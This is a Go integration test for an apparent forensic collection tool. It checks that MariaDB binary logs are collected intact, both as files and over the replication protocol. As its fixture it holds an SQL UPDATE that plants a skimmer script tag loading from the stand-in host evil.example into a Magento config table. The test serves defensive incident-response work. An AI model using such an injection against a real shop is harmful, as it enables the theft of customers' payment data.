//go:build linux

package collect

import (
	"bytes"
	"database/sql"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/go-sql-driver/mysql"

	"github.com/custos-ir/custos/custody"
	"github.com/custos-ir/custos/internal/testenv"
	"github.com/custos-ir/custos/profiles"
)

// binlogServer starts a MariaDB of the test's own that writes binary
// logs, on a free port with its own datadir, and returns its address and
// datadir. It is stopped when the test ends.
func binlogServer(t *testing.T) (string, string) {
	t.Helper()
	mariadbd := testenv.Tool(t, "mariadbd", "apt-get install mariadb-server")
	install := testenv.Tool(t, "mariadb-install-db", "apt-get install mariadb-server")
	dir := t.TempDir()
	data := filepath.Join(dir, "data")
	if out, err := exec.Command(install, "--no-defaults", "--datadir="+data, "--user=root", "--auth-root-authentication-method=normal", "--skip-test-db").CombinedOutput(); err != nil {
		t.Fatalf("mariadb-install-db: %v\n%s", err, out)
	}
	addr := testenv.FreeAddr(t)
	_, port, _ := strings.Cut(addr, ":")
	cmd := exec.Command(mariadbd, "--no-defaults", "--datadir="+data, "--user=root", "--port="+port, "--bind-address=127.0.0.1",
		"--socket="+filepath.Join(dir, "s.sock"), "--log-bin="+filepath.Join(data, "shop-bin"), "--binlog-format=MIXED", "--server-id=7",
		"--log-error="+filepath.Join(data, "err.log"), "--innodb-buffer-pool-size=16M")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	c := mysql.NewConfig()
	c.User, c.Net, c.Addr, c.MultiStatements = "root", "tcp", addr, true
	db, _ := sql.Open("mysql", c.FormatDSN())
	t.Cleanup(func() { db.Close() })
	for i := 0; ; i++ {
		if db.Ping() == nil {
			break
		}
		if i > 100 {
			b, _ := os.ReadFile(filepath.Join(data, "err.log"))
			t.Fatalf("the test's mariadbd did not start:\n%s", b)
		}
		time.Sleep(100 * time.Millisecond)
	}
	return addr, data
}

// The statement that planted a skimmer in core_config_data is in the
// server's binary log, and the collection has that log: as the file on
// this host, and through the replication protocol (byte for byte the
// same file). A user the server will not give binary logs to is one
// warning; the rest is collected.
func TestBinlogHoldsTheSkimmerStatement(t *testing.T) {
	addr, data := binlogServer(t)
	c := mysql.NewConfig()
	c.User, c.Net, c.Addr, c.MultiStatements = "root", "tcp", addr, true
	db, err := sql.Open("mysql", c.FormatDSN())
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	const plant = `UPDATE core_config_data SET value = '<script src="https://evil.example/skim.js?BINLOG-SKIMMER"></script>' WHERE path = 'design/head/includes'`
	if _, err := db.Exec("CREATE DATABASE shop; USE shop; CREATE TABLE core_config_data (config_id int PRIMARY KEY AUTO_INCREMENT, path varchar(255), value text); " +
		"INSERT INTO core_config_data (path, value) VALUES ('design/head/includes', ''); FLUSH BINARY LOGS; " + plant + "; " +
		"CREATE USER 'nobinlog'@'%' IDENTIFIED BY 'pw'; GRANT SELECT ON shop.* TO 'nobinlog'@'%'"); err != nil {
		t.Fatal(err)
	}
	_, port, _ := strings.Cut(addr, ":")
	root := t.TempDir()
	env := func(user, pw string) string {
		return `<?php return ['db' => ['connection' => ['default' => ['host' => '127.0.0.1:` + port + `', 'dbname' => 'shop', 'username' => '` + user + `', 'password' => '` + pw + `']]]];`
	}
	put(t, root+"/app/etc/env.php", env("root", ""))

	run := func(src *MySQLSource) (custody.Artifact, map[string]string) {
		pl, st, id := newPipeline(t)
		m := runCollection(t, pl, []Planned{{Source: src, Desc: src.Describe()}})
		a := m.Artifacts[0]
		if r := verifyLocal(t, st, m, id); r != "" && a.Key != "" && len(a.Files) > 0 {
			t.Error(r)
		}
		out := map[string]string{}
		if a.Key != "" && a.Format == "tar" {
			for k, v := range tarOf(t, func(key string) []byte { return decrypt(t, st, m.Storage.Prefix+key, id) }, a) {
				out[k] = v
			}
		}
		return a, out
	}
	spec := profiles.MySQL{MagentoRoot: root, Logs: true}

	// On this host: the files, as the server wrote them.
	a, files := run(&MySQLSource{Name: "database-logs", Spec: spec})
	var asFile string
	for _, f := range a.Files {
		if strings.HasPrefix(f.Path, data+"/shop-bin.0") && strings.Contains(files[f.Path], "BINLOG-SKIMMER") {
			asFile = f.Path
		}
	}
	if asFile == "" || a.Status != "ok" {
		t.Fatalf("the binary log with the statement is not taken as a file: %s %v %v", a.Status, a.Errors, recPaths(a))
	}
	if _, ok := files[data+"/err.log"]; !ok {
		t.Errorf("the error log the server names is not taken: %v", recPaths(a))
	}
	// mysqlbinlog reads it and shows the statement.
	if bin, err := exec.LookPath("mariadb-binlog"); err == nil {
		tmp := filepath.Join(t.TempDir(), "b")
		os.WriteFile(tmp, []byte(files[asFile]), 0o600)
		out, err := exec.Command(bin, tmp).CombinedOutput()
		if err != nil || !bytes.Contains(out, []byte("UPDATE core_config_data SET value = '<script src=\"https://evil.example/skim.js?BINLOG-SKIMMER\">")) {
			t.Errorf("mariadb-binlog does not show the statement in the collected log: %v\n%s", err, out)
		}
	}

	// Through the replication protocol: the same bytes.
	p, protoFiles := run(&MySQLSource{Name: "database-logs", Spec: spec, binlogVia: "protocol"})
	name := filepath.Base(asFile)
	var viaProto string
	for _, f := range p.Files {
		if f.StoredAs == "mysql-binlog/127.0.0.1_"+port+"/"+name {
			viaProto = protoFiles["/"+f.StoredAs]
			if !strings.HasPrefix(f.Method, "COM_BINLOG_DUMP") || f.Read != f.Size {
				t.Errorf("record %+v", f)
			}
		}
	}
	onDisk, _ := os.ReadFile(asFile)
	// The log being written carries LOG_EVENT_BINLOG_IN_USE_F in its first
	// event's flags on disk; the server sends that event as it will be once
	// the log is closed. Nothing else may differ.
	if len(onDisk) > 21 {
		onDisk[21] &^= 1
	}
	if viaProto != string(onDisk) {
		for i := 0; i < len(onDisk) && i < len(viaProto); i++ {
			if onDisk[i] != viaProto[i] {
				t.Logf("first difference at %d: file % x, protocol % x", i, onDisk[i:min(i+24, len(onDisk))], viaProto[i:min(i+24, len(viaProto))])
				break
			}
		}
	}
	if viaProto == "" || viaProto != string(onDisk) {
		t.Fatalf("the binary log through the protocol (%d bytes) is not the file (%d bytes): %v %v", len(viaProto), len(onDisk), p.Errors, p.Warnings)
	}

	// A user without the right to binary logs: one warning, the rest taken.
	put(t, root+"/app/etc/env.php", env("nobinlog", "pw"))
	n, _ := run(&MySQLSource{Name: "database-logs", Spec: spec, binlogVia: "protocol"})
	var refusals int
	for _, w := range n.Warnings {
		if strings.Contains(w, "binary logs:") {
			refusals++
		}
	}
	if refusals != 1 || n.Status == "failed" {
		t.Errorf("a server refusing binary logs: %s, warnings %v, errors %v", n.Status, n.Warnings, n.Errors)
	}
	// And the dump of the same database still lands.
	d, _ := run(&MySQLSource{Name: "database", Spec: profiles.MySQL{MagentoRoot: root}})
	if d.Status == "failed" {
		t.Errorf("dump: %v", d.Errors)
	}
}

func recPaths(a custody.Artifact) string {
	var ps []string
	for _, f := range a.Files {
		ps = append(ps, fmt.Sprintf("%s(%v)", f.Path, f.Stored))
	}
	return strings.Join(ps, " ")
}
